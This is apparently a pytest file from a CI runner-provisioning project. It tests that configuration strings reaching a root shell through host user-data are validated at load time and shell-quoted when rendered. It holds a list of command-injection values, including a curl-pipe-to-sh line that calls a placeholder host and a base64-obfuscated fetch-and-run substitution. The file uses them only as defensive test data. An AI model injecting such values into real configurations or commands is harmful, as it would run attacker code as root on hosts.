"""Config strings that reach a root shell (the hosts' user-data) are refused at load unless
they match a strict pattern, and, independently, are quoted where they are rendered: a value
that slipped past the first check still reaches the host program as one plain argument."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from estate.config.diagnostics import ConfigError
from estate.config.loader import load_pool
from estate.config.pool import Pool
from estate.config.stack_config import parse_stack_config
from estate.derive.host_user_data import INSTALL_DIR, node_user_data, user_data
from lambda_src.host import bootstrap as host_bootstrap
from tests.conftest import H100_POOL, MINIMAL_POOL, write_pool

HOSTILE = [
    "ubuntu; curl -s https://example.invalid/x | sh",
    "ubuntu$(echo Y3VybCB4fHNo | base64 -d | sh)",
    "`id`",
    "two words",
    "ubuntu\nid",
    "x&&y",
    "-o",
    "Ubuntu",
    "../../etc",
    "",
]
STACK: dict[str, Any] = {
    "environment": "prod",
    "region": "us-east-1",
    "github": {"org": "example-org", "app_id": 42},
    "secrets": {"github_app_private_key": "/x/key", "webhook_secret": "/x/hook"},
}


@pytest.mark.parametrize("value", [*HOSTILE, "root", "a" * 29])
def test_a_run_as_user_that_is_not_a_plain_user_name_is_refused_naming_file_pool_and_key(tmp_path: Path, value: str) -> None:
    text = MINIMAL_POOL.replace("runners_maximum_count: 4", f"runners_maximum_count: 4\n  runner_run_as: {json.dumps(value)}")
    path = write_pool(tmp_path, "cpu", text)
    with pytest.raises(ConfigError) as info:
        load_pool(path)
    assert (info.value.file, info.value.pool, info.value.key) == (str(path), "cpu", "runner_config.runner_run_as")
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("value", ["ubuntu", "ec2-user", "runner_1", "_ci"])
def test_plain_user_names_load(tmp_path: Path, value: str) -> None:
    text = MINIMAL_POOL.replace("runners_maximum_count: 4", f"runners_maximum_count: 4\n  runner_run_as: {value}")
    pool, _ = load_pool(write_pool(tmp_path, "cpu", text))
    assert pool.runner.runner_run_as == value


@pytest.mark.parametrize("value", ["docker; id", "$(id)", "Docker", "two words"])
def test_a_job_group_that_is_not_a_plain_group_name_is_refused(tmp_path: Path, value: str) -> None:
    path = write_pool(tmp_path, "cpu", MINIMAL_POOL + f"estate:\n  job_groups: [{json.dumps(value)}]\n")
    with pytest.raises(ConfigError) as info:
        load_pool(path)
    assert (info.value.pool, info.value.key) == ("cpu", "estate.job_groups[0]")


@pytest.mark.parametrize(
    ("key", "value", "where"),
    [
        ("runner_sha256", {"x64": "ab" * 32 + "; curl x | sh"}, "runner-estate:runner_sha256.x64"),
        ("runner_sha256", {"arm64": "$(id)"}, "runner-estate:runner_sha256.arm64"),
        ("runner_sha256", {"x64": "ab" * 31}, "runner-estate:runner_sha256.x64"),
        ("runner_version", "2.329.0; id", "runner-estate:runner_version"),
        ("runner_version", "2.329.0\n", "runner-estate:runner_version"),
        ("environment", "prod$(id)", "runner-estate:environment"),
    ],
)
def test_stack_settings_that_reach_user_data_are_refused_unless_plain(key: str, value: object, where: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse_stack_config({**STACK, key: value}, "Pulumi.prod.yaml")
    assert (info.value.file, info.value.key) == ("Pulumi.prod.yaml", where)
    assert "\n" not in str(info.value)


def test_a_checksum_in_either_case_loads() -> None:
    stack = parse_stack_config({**STACK, "runner_sha256": {"x64": "AB" * 32, "arm64": "cd" * 32}}, "Pulumi.prod.yaml")
    assert stack.runner_sha256 == {"x64": "AB" * 32, "arm64": "cd" * 32}


# ---- defence in depth: rendering quotes whatever it is given ------------------------------------


def _unchecked(pool: Pool, **runner: object) -> Pool:
    """The pool with values the loader would refuse, as if a check had been missed."""
    spec = pool.spec.model_copy(update={"runner_config": pool.runner.model_copy(update=runner)})
    return Pool(pool.name, pool.file, spec)


def _host_command(script: str) -> str:
    """The line that starts the host program, without its `cd` and log redirection."""
    found = re.search(rf"^cd {INSTALL_DIR} && (.*?) >>\S+ 2>&1$", script, re.M | re.S)
    assert found is not None
    return found.group(1)


def _bash_words(bash: str, command: str) -> list[str]:
    """How bash itself splits `command` into words (printed, not run)."""
    done = subprocess.run([bash, "-c", f"printf '%s\\0' {command}"], capture_output=True, check=True, timeout=10)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("value", [v for v in HOSTILE if v])
def test_every_value_is_one_quoted_argument_in_the_rendered_user_data(tmp_path: Path, value: str) -> None:
    marker = tmp_path / "ran"
    hostile = value.replace("id", f"touch {marker}")
    pool, _ = load_pool(write_pool(tmp_path, "cpu", MINIMAL_POOL))
    node, _ = load_pool(write_pool(tmp_path, "gpu", H100_POOL))
    scripts = {
        "run-as": (user_data(_unchecked(pool, runner_run_as=hostile), "/runner-estate/prod/jit/", "2.329.0", None), hostile),
        "prefix": (user_data(pool, hostile, "2.329.0", None), hostile),
        "version": (user_data(pool, "/runner-estate/prod/jit/", hostile, None), hostile),
        "sha256": (user_data(pool, "/runner-estate/prod/jit/", "2.329.0", hostile), hostile),
        "queue": (node_user_data(node, "/runner-estate/prod/jit/", "2.329.0", None, hostile), hostile),
    }
    for what, (script, planted) in scripts.items():
        command = _host_command(script)
        words = shlex.split(command)
        assert planted in words, what  # one argument, exactly as given
        assert shlex.quote(planted) in script, what
        if bash := shutil.which("bash"):
            assert _bash_words(bash, command) == words, what
    assert not marker.exists()  # nothing in a value was run by the shell


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--run-as", "ubuntu;id"),
        ("--run-as", "-o"),
        ("--runner-version", "2.329.0;id"),
        ("--runner-sha256", "$(id)"),
        ("--parameter-prefix", "/runner-estate/prod/jit/$(id)/"),
    ],
)
def test_the_host_programs_refuse_such_values_as_well(flag: str, value: str) -> None:
    good = {"--parameter-prefix": "/runner-estate/prod/jit/", "--runner-version": "2.329.0", "--runner-arch": "x64"}
    argv = [word for key, given in {**good, flag: value}.items() for word in (key, given)]
    with pytest.raises(SystemExit) as stopped:
        host_bootstrap.main(argv)
    assert stopped.value.code == 2


@pytest.mark.parametrize("value", [v for v in HOSTILE if v])
def test_job_users_and_groups_are_quoted_where_the_user_data_sets_them_up(tmp_path: Path, value: str) -> None:
    marker = tmp_path / "ran"
    hostile = value.replace("id", f"touch {marker}")
    pool, _ = load_pool(write_pool(tmp_path, "cpu", MINIMAL_POOL))
    spec = pool.spec.model_copy(update={"estate": pool.spec.estate.model_copy(update={"job_groups": [hostile]})})
    script = user_data(_unchecked(Pool(pool.name, pool.file, spec), runner_run_as=hostile), "/runner-estate/prod/jit/", "2.329.0", None)
    setup = script[: script.index("<<'BUNDLE'")].rsplit("\n", 1)[0]  # everything before the bundle
    assert setup.count(shlex.quote(hostile)) >= 3  # the accounts loop, the group lookup, the sudoers lines
    if bash := shutil.which("bash"):  # bash reads it as intended (-n: syntax only, nothing runs)
        subprocess.run([bash, "-n", "-c", setup], check=True, timeout=10)
    assert not marker.exists()
